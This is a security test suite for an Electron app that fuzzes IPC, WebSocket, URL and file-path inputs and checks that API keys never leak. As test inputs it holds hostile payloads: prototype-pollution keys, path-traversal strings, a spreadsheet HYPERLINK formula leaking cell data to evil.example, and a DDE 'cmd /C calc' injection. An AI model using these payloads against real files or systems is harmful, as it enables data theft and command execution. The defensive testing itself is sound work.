/**
 * Hardening checks: IPC and WebSocket messages fuzzed against the contract's zod schemas
 * (nothing reaches a handler that the schema does not allow), the window's navigation
 * guards and renderer protocol fuzzed, browser mode refusing missing/wrong tokens,
 * foreign Origins and Hosts, every server the app starts bound to 127.0.0.1, and API keys
 * never in logs, the store or exports.
 */
import { spawn } from 'node:child_process';
import { mkdirSync, mkdtempSync, readFileSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import path, { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import WebSocket from 'ws';
import { COMMAND_NAMES, WsClientFrame, WsServerFrame, commands, ipcChannel, type CommandName, type VisionHandlers } from '../../shared/api.js';
import type { AdResult } from '../../shared/domain.js';
import { startBrowserServer, type BrowserServer } from '../../electron/core/app/browser-server.js';
import { createDispatcher } from '../../electron/core/app/dispatch.js';
import { EventBus } from '../../electron/core/app/events.js';
import { createOpenAIEngine, OPENAI_KEY_ENV } from '../../electron/core/engines/openai.js';
import { exportResults } from '../../electron/core/export/index.js';
import { openStore } from '../../electron/core/store/index.js';
import { createServiceManager } from '../../electron/core/services/manager.js';
import { findFreePort } from '../../electron/core/services/ports.js';
import { DEEPSEEK_DIR, DEEPSEEK_TEST_PYTHON, FAKE_OLLAMA } from '../../electron/core/services/test-support.js';
import { startMainApp } from '../../electron/main/app.js';
import { resolveRendererFile } from '../../electron/main/protocol.js';
import { createFakeElectron } from '../helpers/fake-electron.js';
import { formatFigures, readFigures } from './figures.js';
import { adPng, lane, makeAds, runScenario } from './harness.js';
import { listeningAddresses } from './net.js';

const repoRoot = fileURLToPath(new URL('../..', import.meta.url));
const workDir = mkdtempSync(join(tmpdir(), 'pv-security-'));
const FUZZ_RUNS = 150;

afterAll(() => {
  rmSync(workDir, { recursive: true, force: true });
  console.log(`\nReliability figures so far:\n${formatFigures(readFigures())}\n`);
});

/** A valid request per command, the starting point of the mutations (a command added later starts from {}). */
const VALID: Partial<Record<CommandName, unknown>> = {
  'app.info': {},
  'services.list': {},
  'services.start': { name: 'ollama' },
  'services.stop': { name: 'deepseek' },
  'services.logs': { name: 'openai:vllm-1', limit: 10 },
  'services.setup': { name: 'deepseek', stage: 'venv' },
  'engines.list': {},
  'ads.importText': { text: 'image_url\nhttps://ads.example/a.png\n', filename: 'a.csv' },
  'ads.importFiles': { paths: ['/tmp/ads.csv'] },
  'ads.importUrls': { urls: ['https://ads.example/a.png'] },
  'ads.importImages': { images: [{ name: 'a.png', base64: 'iVBORw0KGgo=' }] },
  'runs.start': { batchId: 'b1', lanes: [{ id: 'ds', engine: 'deepseek', workers: 2 }] },
  'runs.pause': { runId: 'r1' },
  'runs.resume': { runId: 'r1' },
  'runs.cancel': { runId: 'r1' },
  'runs.setSplit': { runId: 'r1', split: { deepseek: 0.7, ollama: 0.3 } },
  'runs.setLaneWorkers': { runId: 'r1', laneId: 'ds', workers: 4 },
  'runs.list': {},
  'runs.progress': { runId: 'r1' },
  'results.page': { runId: 'r1', offset: 0, limit: 50 },
  'results.get': { runId: 'r1', creativeId: 'c1' },
  'results.image': { runId: 'r1', creativeId: 'c1' },
  'results.compare': { runId: 'r1' },
  'export.start': { runId: 'r1', format: 'csv' },
  ['secrets.set' as CommandName]: { laneId: 'remote', apiKey: 'sk-valid-example' },
};

const HOSTILE_KEYS = ['__proto__', 'constructor', 'prototype', 'toString', 'then', 'extra'];

/** A valid request bent one way: an extra key, a key removed, a value replaced. */
function mutated(): fc.Arbitrary<{ channel: CommandName; payload: unknown }> {
  return fc
    .tuple(fc.constantFrom(...COMMAND_NAMES), fc.nat(), fc.constantFrom('add', 'remove', 'replace', 'keep'), fc.oneof(fc.constantFrom(...HOSTILE_KEYS), fc.string({ maxLength: 8 })), fc.anything({ maxDepth: 2 }))
    .map(([channel, index, how, key, value]) => {
      const payload = JSON.parse(JSON.stringify(VALID[channel] ?? {})) as Record<string, unknown>;
      const keys = Object.keys(payload);
      const existing = keys[index % Math.max(1, keys.length)];
      if (how === 'add') Object.defineProperty(payload, key, { value, enumerable: true, configurable: true, writable: true });
      else if (how === 'remove' && existing) delete payload[existing];
      else if (how === 'replace' && existing) payload[existing] = value;
      return { channel, payload };
    });
}

const anyPayload = fc.oneof(fc.anything({ maxDepth: 3, withNullPrototype: true, withObjectString: true }), fc.jsonValue({ maxDepth: 3 }));
const anyFrame = fc.oneof(mutated(), fc.record({ channel: fc.constantFrom(...COMMAND_NAMES), payload: anyPayload }));

/** Handlers that record what reached them. */
function recordingHandlers(calls: Array<{ channel: string; request: unknown }>): VisionHandlers {
  return new Proxy({} as VisionHandlers, {
    get: (_target, channel) => async (request: unknown) => {
      calls.push({ channel: String(channel), request });
      return { ok: 'handled' };
    },
  });
}

/** The property every receiving side must hold: a handler ran only for a request its schema accepts, and got the parsed value. */
function expectOnlyValidReached(channel: CommandName, payload: unknown, calls: Array<{ channel: string; request: unknown }>, reply: { ok: boolean; error?: { code: string } }): void {
  const expected = commands[channel].request.safeParse(payload ?? {});
  if (expected.success) {
    expect(calls).toHaveLength(1);
    expect(calls[0]!.channel).toBe(channel);
    expect(calls[0]!.request).toEqual(expected.data);
    expect(reply.ok).toBe(true);
  } else {
    expect(calls, `${channel} must refuse ${JSON.stringify(payload)?.slice(0, 200)}`).toHaveLength(0);
    expect(reply.ok).toBe(false);
    expect(reply.error?.code).toBe('invalid-request');
  }
}

describe('IPC and WebSocket messages fuzzed against the zod schemas', () => {
  it('the dispatcher passes a request to its handler only when the schema accepts it', async () => {
    let accepted = 0;
    await fc.assert(
      fc.asyncProperty(anyFrame, async ({ channel, payload }) => {
        const calls: Array<{ channel: string; request: unknown }> = [];
        const reply = await createDispatcher(recordingHandlers(calls))(channel, payload);
        expectOnlyValidReached(channel, payload, calls, reply);
        if (reply.ok) accepted++;
      }),
      { numRuns: FUZZ_RUNS * 10 },
    );
    // The generator reaches both sides of the schemas.
    expect(accepted).toBeGreaterThan(0);
  });

  it('unknown and prototype channel names never reach a handler', async () => {
    const names = fc.oneof(fc.string({ maxLength: 40 }), fc.constantFrom('__proto__', 'constructor', 'toString', 'hasOwnProperty', 'valueOf', 'APP.INFO', 'app.info ', 'vision:app.info', ''));
    await fc.assert(
      fc.asyncProperty(names, anyPayload, async (channel, payload) => {
        fc.pre(!(COMMAND_NAMES as readonly string[]).includes(channel));
        const calls: Array<{ channel: string; request: unknown }> = [];
        const reply = await createDispatcher(recordingHandlers(calls))(channel, payload);
        expect(calls).toEqual([]);
        expect(reply).toMatchObject({ ok: false, error: { code: 'unknown-channel' } });
      }),
      { numRuns: FUZZ_RUNS * 3 },
    );
  });

  it('a JSON __proto__ key neither passes validation nor pollutes Object.prototype', async () => {
    const calls: Array<{ channel: string; request: unknown }> = [];
    const dispatch = createDispatcher(recordingHandlers(calls));
    const reply = await dispatch('services.start', JSON.parse('{"name":"ollama","__proto__":{"polluted":true}}'));
    expect(reply.ok).toBe(false);
    expect(await dispatch('runs.start', JSON.parse('{"batchId":"b","lanes":[{"id":"x","engine":"deepseek","workers":1,"__proto__":{"workers":999}}]}'))).toMatchObject({ ok: true });
    const lanes = (calls[0]!.request as { lanes: Array<Record<string, unknown>> }).lanes;
    expect(Object.getPrototypeOf(lanes[0])).toBe(Object.prototype);
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    expect(({} as Record<string, unknown>).workers).toBeUndefined();
  });

  it('Electron IPC: untrusted senders are refused, trusted ones only with valid payloads', async () => {
    const fake = createFakeElectron();
    const calls: Array<{ channel: string; request: unknown }> = [];
    const bus = new EventBus();
    await startMainApp(fake.electron, { distDir: '/app/dist/electron', createBackend: async () => ({ handlers: recordingHandlers(calls), subscribe: (listener) => bus.subscribe(listener), dispose: async () => undefined }) });
    const trusted = fake.windows[0]!.webContents;
    await fc.assert(
      fc.asyncProperty(anyFrame, fc.boolean(), async ({ channel, payload }, fromWindow) => {
        calls.length = 0;
        const handler = fake.ipcHandlers.get(ipcChannel(channel))!;
        const reply = (await handler({ sender: fromWindow ? trusted : { id: 999 } }, payload)) as { ok: boolean; error?: { code: string; message: string } };
        if (!fromWindow) {
          expect(calls).toEqual([]);
          expect(reply).toMatchObject({ ok: false, error: { message: expect.stringMatching(/Refused/) } });
        } else {
          expectOnlyValidReached(channel, payload, calls, reply);
        }
      }),
      { numRuns: FUZZ_RUNS * 4 },
    );
  });

  describe('browser mode WebSocket', () => {
    let server: BrowserServer;
    const calls: Array<{ channel: string; request: unknown }> = [];
    beforeAll(async () => {
      const rendererDir = join(workDir, 'renderer');
      mkdirSync(rendererDir, { recursive: true });
      writeFileSync(join(rendererDir, 'index.html'), '<!doctype html><title>PV</title>');
      server = await startBrowserServer({ rendererDir, dispatch: createDispatcher(recordingHandlers(calls)), subscribe: () => () => undefined });
    });
    afterAll(() => server?.close());

    it('answers every fuzzed frame once, lets through only what the schemas allow, and keeps serving', async () => {
      const ws = new WebSocket(`ws://127.0.0.1:${server.port}/api?token=${server.token}`, { origin: `http://127.0.0.1:${server.port}` });
      await new Promise((resolve, reject) => {
        ws.once('open', resolve);
        ws.once('error', reject);
      });
      const replies: Array<{ type: string; id: number; reply: { ok: boolean; error?: { code: string } } }> = [];
      ws.on('message', (data) => replies.push(WsServerFrame.parse(JSON.parse(String(data))) as (typeof replies)[number]));
      const frames = fc.sample(anyFrame, { numRuns: FUZZ_RUNS * 2, seed: 20_261_125 }).map((frame, id) => ({ id, ...frame }));
      const junk = fc.sample(fc.oneof(fc.string({ maxLength: 200 }), fc.jsonValue({ maxDepth: 3 }).map((value) => JSON.stringify(value)), fc.uint8Array({ maxLength: 200 })), { numRuns: FUZZ_RUNS, seed: 7 });
      const sentFrames = new Map<number, (typeof frames)[number]>();
      for (const frame of frames) {
        // JSON cannot carry every value fast-check makes (undefined, NaN, functions): send what JSON sends, and judge that.
        const wire = JSON.stringify({ id: frame.id, channel: frame.channel, payload: frame.payload });
        const payload = (JSON.parse(wire) as { payload?: unknown }).payload;
        sentFrames.set(frame.id, { ...frame, payload });
        ws.send(wire);
      }
      for (const item of junk) ws.send(item);
      const expected = frames.length + junk.length;
      const deadline = Date.now() + 30_000;
      while (replies.length < expected && Date.now() < deadline) await new Promise((resolve) => setTimeout(resolve, 20));
      expect(replies).toHaveLength(expected);
      // Junk, and frames the frame schema refuses (no payload key once JSON dropped an undefined), are answered as malformed (id -1); every other frame gets its own reply.
      const refusedFrames = frames.filter((frame) => !WsClientFrame.safeParse(JSON.parse(JSON.stringify({ id: frame.id, channel: frame.channel, payload: frame.payload }))).success);
      expect(replies.filter((reply) => reply.id === -1)).toHaveLength(junk.length + refusedFrames.length);
      expect(new Set(replies.filter((reply) => reply.id >= 0).map((reply) => reply.id)).size).toBe(frames.length - refusedFrames.length);
      for (const reply of replies.filter((entry) => entry.id >= 0)) {
        const frame = sentFrames.get(reply.id)!;
        const schemaSays = commands[frame.channel].request.safeParse(frame.payload ?? {}).success;
        expect(reply.reply.ok, `${frame.channel} ${JSON.stringify(frame.payload)?.slice(0, 120)}`).toBe(schemaSays);
      }
      // Every request that reached a handler is one its schema accepts.
      for (const call of calls) expect(commands[call.channel as CommandName].request.safeParse(call.request).success).toBe(true);
      // Still serving.
      const before = replies.length;
      ws.send(JSON.stringify({ id: 100_000, channel: 'app.info', payload: {} }));
      const stillServingBy = Date.now() + 30_000;
      while (replies.length === before && Date.now() < stillServingBy) await new Promise((resolve) => setTimeout(resolve, 10));
      expect(replies.at(-1)).toMatchObject({ id: 100_000, reply: { ok: true } });
      ws.close();
    });
  });
});

describe('window navigation guards and the renderer protocol', () => {
  it('only app://renderer stays in the window; only http(s) goes to the OS browser; window.open is always denied', async () => {
    const fake = createFakeElectron();
    await startMainApp(fake.electron, { distDir: '/app/dist/electron', createBackend: async () => ({ handlers: recordingHandlers([]), subscribe: () => () => undefined, dispose: async () => undefined }) });
    const contents = fake.windows[0]!.webContents;
    const urls = fc.oneof(
      fc.webUrl({ withQueryParameters: true, withFragments: true }),
      fc.string({ maxLength: 60 }),
      fc.tuple(fc.constantFrom('app://renderer', 'app://renderer.evil', 'app://evil', 'file://', 'javascript:', 'data:text/html,', 'chrome://', 'APP://RENDERER', 'app://renderer@evil.example', 'http://', 'https://'), fc.webPath()).map(([start, rest]) => `${start}${rest}`),
    );
    await fc.assert(
      fc.asyncProperty(urls, async (url) => {
        fake.opened.length = 0;
        let staysInApp = false;
        try {
          const parsed = new URL(url);
          staysInApp = parsed.protocol === 'app:' && parsed.host === 'renderer';
        } catch {
          staysInApp = false;
        }
        expect(contents.navigate('will-navigate', url), url).toBe(!staysInApp);
        expect(contents.navigate('will-redirect', url), url).toBe(!staysInApp);
        expect(contents.windowOpenHandler!({ url })).toEqual({ action: 'deny' });
        for (const opened of fake.opened) expect(new URL(opened).protocol).toMatch(/^https?:$/);
      }),
      { numRuns: FUZZ_RUNS * 4 },
    );
  });

  it('the app:// protocol never resolves a file outside the renderer folder', () => {
    const rendererDir = join(workDir, 'dist', 'renderer');
    const root = path.resolve(rendererDir) + path.sep;
    const segments = fc.array(fc.oneof(fc.constantFrom('..', '%2e%2e', '%2E%2E', '..%2f', '..%5c', '%2f', '.', '%00', 'etc', 'passwd', '..\\..'), fc.webSegment()), { maxLength: 8 });
    fc.assert(
      fc.property(segments, (parts) => {
        const url = `app://renderer/${parts.join('/')}`;
        let file: string | null;
        try {
          file = resolveRendererFile(rendererDir, url);
        } catch {
          file = null; // a malformed escape is refused
        }
        if (file !== null) expect(file.startsWith(root), `${url} → ${file}`).toBe(true);
      }),
      { numRuns: FUZZ_RUNS * 10 },
    );
  });
});

describe('browser mode refuses whoever lacks the token or comes from elsewhere', () => {
  let server: BrowserServer;
  beforeAll(async () => {
    const rendererDir = join(workDir, 'renderer-refusals');
    mkdirSync(rendererDir, { recursive: true });
    writeFileSync(join(rendererDir, 'index.html'), '<!doctype html><title>PV</title>');
    writeFileSync(join(workDir, 'outside.txt'), 'secret outside');
    server = await startBrowserServer({ rendererDir, downloadsDir: rendererDir, dispatch: createDispatcher(recordingHandlers([])), subscribe: () => () => undefined });
  });
  afterAll(() => server?.close());

  function get(requestPath: string, headers: Record<string, string> = {}, method = 'GET'): Promise<{ status: number; body: string }> {
    return new Promise((resolve, reject) => {
      const request = http.request({ host: '127.0.0.1', port: server.port, path: requestPath, method, headers: { host: `127.0.0.1:${server.port}`, ...headers } }, (response) => {
        let body = '';
        response.on('data', (chunk) => (body += chunk));
        response.on('end', () => resolve({ status: response.statusCode ?? 0, body }));
      });
      request.on('error', reject);
      request.end();
    });
  }

  function upgrade(query: string, headers: Record<string, string | undefined>, pathname = '/api'): Promise<'open' | number> {
    return new Promise((resolve) => {
      const ws = new WebSocket(`ws://127.0.0.1:${server.port}${pathname}${query}`, { headers: Object.fromEntries(Object.entries(headers).filter(([, value]) => value !== undefined)) as Record<string, string> });
      ws.once('open', () => {
        ws.close();
        resolve('open');
      });
      ws.once('unexpected-response', (_request, response) => resolve(response.statusCode ?? 0));
      ws.once('error', () => resolve(-1));
    });
  }

  it('HTTP: token missing, wrong, one character off, in the wrong place; foreign Origin or Host; other methods; traversal', async () => {
    const token = server.token;
    const offByOne = `${token.slice(0, -1)}${token.endsWith('A') ? 'B' : 'A'}`;
    const own = `http://127.0.0.1:${server.port}`;
    const cases: Array<[string, string, Record<string, string>, string?]> = [
      ['no token', '/', {}],
      ['wrong token', '/?token=wrong', {}],
      ['token one character off', `/?token=${offByOne}`, {}],
      ['token as another parameter', `/?tok=${token}`, {}],
      ['token in a header', '/', { authorization: `Bearer ${token}` }],
      ['wrong cookie', '/', { cookie: `pv_token=${offByOne}` }],
      ['foreign Origin', `/?token=${token}`, { origin: 'https://evil.example' }],
      ['null Origin', `/?token=${token}`, { origin: 'null' }],
      ['Origin on another port', `/?token=${token}`, { origin: `http://127.0.0.1:${server.port + 1}` }],
      ['Origin look-alike', `/?token=${token}`, { origin: `http://127.0.0.1:${server.port}.evil.example` }],
      ['DNS rebinding Host', `/?token=${token}`, { host: `evil.example:${server.port}` }],
      ['Host without port', `/?token=${token}`, { host: '127.0.0.1' }],
      ['POST with the token', `/?token=${token}`, { origin: own }, 'POST'],
      ['PUT with the token', `/?token=${token}`, {}, 'PUT'],
    ];
    for (const [name, requestPath, headers, method] of cases) {
      const response = await get(requestPath, headers, method);
      expect(response.status, name).toBe(403);
      expect(response.body, name).not.toContain('<title>PV</title>');
    }
    for (const traversal of ['/..%2foutside.txt', '/%2e%2e/outside.txt', '/downloads/..%2f..%2foutside.txt', '/downloads/%2e%2e%2f%2e%2e%2foutside.txt']) {
      const response = await get(`${traversal}${traversal.includes('?') ? '&' : '?'}token=${token}`);
      expect(response.status, traversal).not.toBe(200);
      expect(response.body).not.toContain('secret outside');
    }
    expect((await get(`/?token=${token}`)).status).toBe(200);
  });

  it('WebSocket: no token, wrong token, no Origin, foreign Origin or Host, other paths', async () => {
    const token = server.token;
    const own = `http://127.0.0.1:${server.port}`;
    expect(await upgrade('', { origin: own })).toBe(403);
    expect(await upgrade('?token=wrong', { origin: own })).toBe(403);
    expect(await upgrade(`?token=${token}`, {})).toBe(403);
    expect(await upgrade(`?token=${token}`, { origin: 'https://evil.example' })).toBe(403);
    expect(await upgrade(`?token=${token}`, { origin: 'null' })).toBe(403);
    expect(await upgrade(`?token=${token}`, { origin: own, host: `evil.example:${server.port}` })).toBe(403);
    expect(await upgrade(`?token=${token}`, { origin: own }, '/api2')).toBe(403);
    expect(await upgrade(`?token=${token}`, { origin: own })).toBe('open');
    expect(await upgrade('', { origin: own, cookie: `pv_token=${token}` })).toBe('open');
  });

  it('a malformed URL gets a 400 and the server lives on', async () => {
    const child = spawn(process.execPath, ['--import', 'tsx', join(repoRoot, 'test/reliability/browser-child.ts')], { cwd: repoRoot, stdio: ['ignore', 'pipe', 'pipe'] });
    try {
      const [port, token] = await new Promise<[number, string]>((resolve, reject) => {
        let buffered = '';
        child.stdout.on('data', (chunk: Buffer) => {
          buffered += chunk;
          const match = /LISTENING (\d+) (\S+)/.exec(buffered);
          if (match) resolve([Number(match[1]), match[2]!]);
        });
        child.once('exit', (code) => reject(new Error(`browser child exited ${code}`)));
      });
      const status = await new Promise<number>((resolve) => {
        const request = http.request({ host: '127.0.0.1', port, path: `/%E0%A4%A?token=${token}`, headers: { host: `127.0.0.1:${port}` } }, (response) => {
          response.resume();
          resolve(response.statusCode ?? 0);
        });
        request.on('error', () => resolve(-1));
        request.end();
      });
      await new Promise((resolve) => setTimeout(resolve, 300));
      expect(child.exitCode, 'the server process is still alive').toBeNull();
      expect(status).toBe(400);
    } finally {
      child.kill('SIGTERM');
    }
  });
});

describe('every server the app starts listens on 127.0.0.1 only', () => {
  it('browser mode', async () => {
    const rendererDir = join(workDir, 'renderer-bind');
    mkdirSync(rendererDir, { recursive: true });
    const server = await startBrowserServer({ rendererDir, dispatch: createDispatcher(recordingHandlers([])), subscribe: () => () => undefined });
    try {
      expect(await listeningAddresses(server.port)).toEqual(['127.0.0.1']);
    } finally {
      await server.close();
    }
  });

  it('Ollama (the fake ollama serve) and the DeepSeek service (real Python, RapidOCR) as started by the service manager', async () => {
    const ollamaPort = await findFreePort(46_000 + Math.floor(Math.random() * 3000));
    const deepseekPort = await findFreePort(49_000 + Math.floor(Math.random() * 2000));
    const manager = createServiceManager({
      dataDir: join(workDir, 'services'),
      deepseekDir: DEEPSEEK_DIR,
      binaries: { ollama: FAKE_OLLAMA, deepseekPython: DEEPSEEK_TEST_PYTHON },
      deepseekBackend: 'rapidocr',
      ports: { ollama: ollamaPort, deepseek: deepseekPort },
      tuning: { healthIntervalMs: 300, stopGraceMs: 3000, backoff: { baseMs: 100 } },
      memoryPressure: async () => null,
    });
    try {
      await manager.ready;
      const ollama = await manager.start('ollama');
      expect(ollama.state.type).toBe('ready');
      expect(await listeningAddresses(ollamaPort)).toEqual(['127.0.0.1']);
      const deepseek = await manager.start('deepseek');
      expect(deepseek.state.type, JSON.stringify(deepseek.state)).toBe('ready');
      expect(await listeningAddresses(deepseekPort)).toEqual(['127.0.0.1']);
    } finally {
      await manager.dispose();
    }
  }, 90_000);
});

describe('exports opened in a spreadsheet', () => {
  it('no exported CSV cell starts a formula', async () => {
    const dir = join(workDir, 'formula');
    const store = openStore(join(dir, 'pv.db'));
    const hostile = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', '+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)'];
    try {
      const ads = hostile.map((text, i) => ({ creativeId: `f${i}`, imageUrl: `https://ads.example/${i}.png`, adText: text }));
      const batch = store.saveBatch({ source: 'formula.csv', format: 'csv', columns: ['creative_id', 'image_url', 'ad_text'], fieldColumns: { id: 'creative_id', url: 'image_url', text: 'ad_text' }, ads });
      const run = store.createRun({ batchId: batch.id, policy: 'auto' });
      hostile.forEach((text, i) => store.runStore.saveResult({ runId: run.id, creativeId: `f${i}`, status: 'done', engine: 'deepseek', laneId: 'ds', model: 'm', text, blocks: [], durationMs: 1, attempts: [] }));
      store.runStore.flush();
      await exportResults(store, run.id, { format: 'csv' }, join(dir, 'export.csv'));
    } finally {
      store.close();
    }
    const { parse } = await import('csv-parse/sync');
    const rows = parse(readFileSync(join(dir, 'export.csv'), 'utf8'), { bom: true }) as string[][];
    expect(rows.length).toBe(hostile.length + 1);
    const formulas = rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell));
    expect(formulas).toEqual([]);
  });
});

describe('API keys never appear in logs, the store or exports', () => {
  const KEY = 'sk-reliability-test-0123456789abcdef';

  /** An OpenAI-compatible server that echoes the Authorization header back in its errors, like a careless proxy. */
  async function leakyServer(): Promise<{ url: string; close: () => Promise<void> }> {
    let calls = 0;
    const server = http.createServer((request, response) => {
      const auth = String(request.headers.authorization ?? '');
      request.resume();
      request.on('end', () => {
        calls++;
        if (request.url?.endsWith('/models')) {
          response.writeHead(200, { 'content-type': 'application/json' });
          return void response.end(JSON.stringify({ data: [{ id: 'vision' }] }));
        }
        const mode = calls % 4;
        if (mode === 1) {
          response.writeHead(500, { 'content-type': 'application/json' });
          return void response.end(JSON.stringify({ error: { message: `upstream failed for ${auth} (key ${auth.replace('Bearer ', '')})` } }));
        }
        if (mode === 2) {
          response.writeHead(502, { 'content-type': 'text/html' });
          return void response.end(`<html>bad gateway: ${auth}</html>`);
        }
        if (mode === 3) {
          response.writeHead(200, { 'content-type': 'application/json' });
          return void response.end(`not json ${auth}`);
        }
        response.writeHead(200, { 'content-type': 'application/json' });
        response.end(JSON.stringify({ model: 'vision', choices: [{ message: { content: 'SUMMER SALE' }, finish_reason: 'stop' }] }));
      });
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, close: () => new Promise((resolve) => server.close(() => resolve())) };
  }

  function filesContaining(dir: string, needle: string): string[] {
    const hits: string[] = [];
    for (const entry of readdirSync(dir, { withFileTypes: true, recursive: true })) {
      if (!entry.isFile()) continue;
      const file = join(entry.parentPath, entry.name);
      if (readFileSync(file).includes(needle)) hits.push(file);
    }
    return hits;
  }

  it('in the app: engine errors, results, the SQLite files and CSV/JSON/JSONL exports', async () => {
    const leaky = await leakyServer();
    const dir = join(workDir, 'keys-app');
    mkdirSync(dir, { recursive: true });
    const store = openStore(join(dir, 'pv.db'));
    const logged: string[] = [];
    const originals = { log: console.log, error: console.error, warn: console.warn, stdout: process.stdout.write.bind(process.stdout), stderr: process.stderr.write.bind(process.stderr) };
    const capture = (...args: unknown[]) => void logged.push(args.map(String).join(' '));
    process.env[OPENAI_KEY_ENV] = KEY;
    console.log = console.error = console.warn = capture;
    process.stdout.write = ((chunk: string | Uint8Array) => (logged.push(String(chunk)), true)) as typeof process.stdout.write;
    process.stderr.write = ((chunk: string | Uint8Array) => (logged.push(String(chunk)), true)) as typeof process.stderr.write;
    let results: AdResult[] = [];
    try {
      const ads = makeAds(24, (i) => `https://ads.example/${i}.png`);
      const batch = store.saveBatch({ source: 'keys.csv', format: 'csv', columns: [], fieldColumns: { id: null, url: null, text: null }, ads });
      const run = store.createRun({ batchId: batch.id, policy: 'auto' });
      const config = lane('remote', 'openai', 2, { endpoint: leaky.url, model: 'vision' });
      const engine = createOpenAIEngine(config, { getSecret: () => KEY });
      expect(await engine.availability!()).toEqual({ type: 'available' });
      const png = await adPng();
      const outcome = await runScenario({ name: 'api key leak check', runId: run.id, ads, lanes: [{ config, engine, prior_s: 0.05, coldStart_s: 0 }], loadImage: async () => ({ bytes: png, mime: 'image/png' }), store: store.runStore, maxAttempts: 2 });
      results = outcome.results;
      for (const format of ['csv', 'json', 'jsonl'] as const) await exportResults(store, run.id, { format }, join(dir, `export.${format}`));
    } finally {
      console.log = originals.log;
      console.error = originals.error;
      console.warn = originals.warn;
      process.stdout.write = originals.stdout;
      process.stderr.write = originals.stderr;
      delete process.env[OPENAI_KEY_ENV];
      store.close();
      await leaky.close();
    }
    expect(results.some((result) => result.status === 'failed' || result.attempts.some((attempt) => attempt.outcome === 'error')), 'the leaky answers were exercised').toBe(true);
    expect(results.some((result) => result.status === 'done')).toBe(true);
    for (const result of results) expect(JSON.stringify(result)).not.toContain(KEY);
    expect(logged.join('\n')).not.toContain(KEY);
    expect(filesContaining(dir, KEY)).toEqual([]);
    expect(readFileSync(join(dir, 'export.csv'), 'utf8')).toContain('[redacted]');
  });

  it('in the VisionApi: a key sent with any request is never echoed in a reply', async () => {
    const dispatch = createDispatcher(recordingHandlers([]));
    await fc.assert(
      fc.asyncProperty(fc.constantFrom(...COMMAND_NAMES), fc.dictionary(fc.string({ maxLength: 10 }), fc.anything({ maxDepth: 1 }), { maxKeys: 3 }), fc.constantFrom('apiKey', 'key', 'laneId', 'name', 'text'), async (channel, extra, field) => {
        const reply = await dispatch(channel, { ...(VALID[channel] as object), ...extra, [field]: KEY });
        const text = JSON.stringify(reply);
        // A handler's own answer may carry what it was given (the recording handler does not); errors never do.
        if (!reply.ok) expect(text).not.toContain(KEY);
      }),
      { numRuns: FUZZ_RUNS * 2 },
    );
  });

  it('in the CLI: stdout, stderr, the data folder and the export', async () => {
    const leaky = await leakyServer();
    const dataDir = join(workDir, 'keys-cli');
    const list = join(workDir, 'keys-cli.csv');
    const png = await adPng();
    const imageServer = http.createServer((_request, response) => {
      response.writeHead(200, { 'content-type': 'image/png' });
      response.end(png);
    });
    await new Promise<void>((resolve) => imageServer.listen(0, '127.0.0.1', resolve));
    const base = `http://127.0.0.1:${(imageServer.address() as AddressInfo).port}`;
    writeFileSync(list, `creative_id,image_url\n${Array.from({ length: 12 }, (_, i) => `k${i},${base}/k${i}.png?v=${i}`).join('\n')}\n`);
    const out = join(dataDir, 'export.csv');
    try {
      const result = await new Promise<{ code: number | null; output: string }>((resolve) => {
        const child = spawn(process.execPath, ['--import', 'tsx', join(repoRoot, 'electron/cli/index.ts'), 'run', list, '--engines', 'openai', '--openai-url', leaky.url, '--openai-model', 'vision', '--data-dir', dataDir, '--out', out, '--json'], {
          cwd: repoRoot,
          env: { ...process.env, [OPENAI_KEY_ENV]: KEY },
          stdio: ['ignore', 'pipe', 'pipe'],
        });
        let output = '';
        child.stdout.on('data', (chunk: Buffer) => (output += chunk));
        child.stderr.on('data', (chunk: Buffer) => (output += chunk));
        child.on('close', (code) => resolve({ code, output }));
      });
      expect(result.output, result.output.slice(-2000)).not.toContain(KEY);
      expect(readFileSync(out, 'utf8').split('\n').length).toBeGreaterThanOrEqual(13);
      expect(filesContaining(dataDir, KEY)).toEqual([]);
    } finally {
      await leaky.close();
      await new Promise((resolve) => imageServer.close(resolve));
    }
  }, 90_000);
});
